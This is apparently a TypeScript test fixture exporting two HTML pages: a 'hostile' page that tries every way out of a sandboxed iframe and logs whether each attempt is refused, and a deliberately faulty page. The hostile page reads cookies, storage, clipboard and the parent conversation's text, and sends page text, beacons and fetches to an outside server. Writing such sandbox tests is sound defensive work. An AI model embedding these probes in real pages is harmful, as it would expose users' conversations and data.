/**
 * A web page that tries every way out of the frame it runs in and writes down, a line each, what came of it: `refused`,
 * or what it reached. It leaves for good when it is told to. `elsewhere`: the origin of a server that waits for it.
 */
export const hostilePage = (elsewhere: string) => `<!DOCTYPE html>
<html><head><title>Hostile</title></head><body>
<h1>Hostile</h1><pre id="log"></pre><button onclick="note('press', 'alive')">Press</button><button onclick="leave()">Leave</button>
<script>
function note(name, outcome) { document.getElementById('log').append(name + ': ' + outcome + '\\n'); }
function attempt(name, act) { try { const reached = act(); note(name, reached === undefined ? 'refused' : 'reached ' + reached); } catch { note(name, 'refused'); } }
function await_(name, promise) { return promise.then((value) => note(name, 'reached ' + value), () => note(name, 'refused')); }
attempt('origin', () => origin === 'null' ? undefined : origin);
attempt('cookies', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('databases', () => indexedDB.open('x').readyState);
attempt('parent', () => parent.document.title);
attempt('top', () => top.document.title);
attempt('conversation', () => top.frames.length && top.document.body.innerText);
attempt('top address', () => { top.location.href = '${elsewhere}/top'; });
attempt('holder address', () => { parent.location.href = '${elsewhere}/parent'; });
attempt('popup', () => window.open('${elsewhere}/popup')?.closed);
attempt('calls', () => typeof RTCPeerConnection === 'undefined' ? undefined : 'RTCPeerConnection');
attempt('service worker', () => typeof navigator.serviceWorker.register);
const waits = [
  await_('own server', fetch('/api/v1/models').then((answer) => answer.status)),
  await_('elsewhere', fetch('${elsewhere}/fetch', { mode: 'no-cors' }).then(() => 'it')),
  await_('script', import('${elsewhere}/script.js').then(() => 'it')),
  await_('picture', new Promise((resolve, reject) => { const picture = new Image(); picture.onload = resolve; picture.onerror = reject; picture.src = '${elsewhere}/picture.png'; })),
  await_('own picture', new Promise((resolve, reject) => { const picture = new Image(); picture.onload = resolve; picture.onerror = reject; picture.src = '/icon.svg'; })),
  await_('socket', new Promise((resolve, reject) => { const socket = new WebSocket('${elsewhere.replace('http', 'ws')}/socket'); socket.onopen = resolve; socket.onerror = reject; })),
  await_('worker', new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = resolve; worker.onerror = reject; })),
  await_('camera', navigator.mediaDevices ? navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'it') : Promise.reject()),
  await_('clipboard', navigator.clipboard ? navigator.clipboard.readText() : Promise.reject()),
];
navigator.sendBeacon('${elsewhere}/beacon', 'x');
top.postMessage('{"kind":"facts"}', '*');
const within = document.createElement('iframe');
within.srcdoc = '<script>parent.note2 = 1; parent.postMessage("within", "*")<\\/script>';
addEventListener('message', (event) => note('frame within', 'reached ' + event.data));
document.body.append(within);
const form = document.createElement('form');
form.action = '${elsewhere}/form';
document.body.append(form);
form.submit();
const link = document.createElement('a');
link.href = '${elsewhere}/link';
link.target = '_top';
document.body.append(link);
link.click();
Promise.allSettled(waits).then(() => note('end', 'here'));
function leave() {
  const refresh = document.createElement('meta');
  refresh.httpEquiv = 'refresh';
  refresh.content = '0;url=${elsewhere}/refresh';
  document.head.append(refresh);
  location.href = '${elsewhere}/location?' + encodeURIComponent(document.body.innerText);
}
</script></body></html>`;

/** One that runs, but not as it should. */
export const faultyPage = `<!DOCTYPE html>
<html><body style="margin:0">
<div style="width: 500px; background: #cde">Five hundred</div>
<output id="width"></output>
<a href="#">Home</a><form onsubmit="event.preventDefault(); this.lastChild.textContent = 'sent'"><button>Order</button><i>open</i></form>
<script>
addEventListener('resize', () => { document.getElementById('width').textContent = innerWidth; });
document.getElementById('width').textContent = innerWidth;
missing();
</script>
</body></html>`;
